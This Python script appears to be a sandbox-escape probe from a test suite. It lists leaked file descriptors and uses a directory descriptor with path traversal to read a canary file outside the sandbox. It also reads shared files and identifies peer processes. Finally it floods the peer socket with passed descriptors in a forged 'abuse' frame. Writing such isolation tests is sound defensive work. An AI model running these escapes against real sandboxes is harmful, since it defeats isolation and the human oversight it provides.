# Descriptors that somebody forgot to close.
import array
import os
import socket
import stat
import struct

# What stands at 3 and above: the interpreter's channel is one socket, no more.
seen = {"directory": [], "file": [], "socket": [], "device": [], "other": []}
for fd in range(3, 4096):
    try:
        info = os.fstat(fd)
    except OSError:
        continue
    kind = ("directory" if stat.S_ISDIR(info.st_mode) else "file" if stat.S_ISREG(info.st_mode)
            else "socket" if stat.S_ISSOCK(info.st_mode) else "device" if stat.S_ISCHR(info.st_mode) else "other")
    try:
        seen[kind].append((fd, os.readlink(f"/proc/self/fd/{fd}")))
    except OSError:
        seen[kind].append((fd, "?"))


def escape_by(fd):
    outside = os.open("../../../../../../.." + WORLD["canary_file"], os.O_RDONLY, dir_fd=fd)
    return os.read(outside, 100)


def through_directory():
    for fd, _ in seen["directory"]:
        return escape_by(fd)
    return None


def shared_file():
    for fd, name in seen["file"]:
        if name.startswith(("/dev/shm/", "/tmp/", "/memfd:")) and "deleted" in name:
            continue  # the interpreter's own
        return f"{fd} {name} {os.pread(fd, 100, 0)!r}"
    return None


def peers():
    for fd, _ in seen["socket"]:
        with socket.socket(fileno=os.dup(fd)) as channel:
            name = channel.getpeername()
            pid = struct.unpack("3i", channel.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
            yield name, pid


def hand_over():
    # Descriptors for whoever reads at the other end, with a frame that it takes.
    notice = b'{"code":"abuse","args":{}}'
    frame = struct.pack(">IB", len(notice), ord("N")) + notice
    given = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(200)])
    sent = 0
    for fd, _ in seen["socket"]:
        with socket.socket(fileno=os.dup(fd)) as channel:
            for _ in range(20):
                channel.sendmsg([frame], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, given)], socket.MSG_DONTWAIT)
                sent += len(given)
    return sent


attempt("peer_name", lambda: [name for name, _ in peers() if name] or None)
attempt("peer_process", lambda: [pid for _, pid in peers() if pid] or None)
attempt("directory", through_directory)
attempt("any_directory", lambda: seen["directory"] or None)
attempt("file", shared_file)
attempt("sockets", lambda: seen["socket"] if len(seen["socket"]) > 1 else None)
attempt("stdin", lambda: stat.S_ISSOCK(os.fstat(0).st_mode) or stat.S_ISREG(os.fstat(0).st_mode))
print("SEEN", seen)
try:
    print("HANDED OVER", hand_over())
except OSError as error:
    print("HANDED OVER", error)
